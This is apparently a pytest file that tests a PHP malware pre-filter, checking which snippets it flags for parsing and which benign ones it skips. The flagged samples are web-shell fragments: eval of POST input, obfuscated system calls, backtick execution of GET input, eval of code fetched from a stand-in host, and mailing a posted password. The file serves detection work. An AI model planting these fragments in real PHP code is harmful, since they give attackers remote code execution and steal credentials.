from __future__ import annotations

import pytest

from pratique.content.php.gate import worth_parsing


@pytest.mark.parametrize(
    "source",
    [
        b"eval($_POST[1]);",
        b"EVAL /**/ (BASE64_DECODE('a'));",
        b"$f($_GET['x']);",
        b"('sys'.'tem')('x');",
        b"array_map('assert', $_POST);",
        b"echo `$_GET[c]`;",
        b'include "\\x2ftmp\\x2fx";',
        b"include 'x.png';",
        b"eval(file_get_contents('http://b.example'));",
        b"fwrite($h, $_POST['a']);",
        b"mail($a, 's', $_POST['pass']);",
        b'${"_G"}["x"]("y");',
        b"$x = 'a';" + b" " * 120 + b"f();",
    ],
)
def test_lets_in(source):
    assert worth_parsing(b"<?php " + source)


@pytest.mark.parametrize(
    "source",
    [
        b"class A { function b() { return 1; } }",
        b"echo htmlspecialchars($_GET['q']);",
        b"include 'header.php';",
        b"// evaluates the retrieval of $_POST",
        b"$x = base64_decode($y);",
        b"$wpdb->query('SELECT `a` FROM b');",
    ],
)
def test_leaves_out(source):
    assert not worth_parsing(b"<?php " + source)
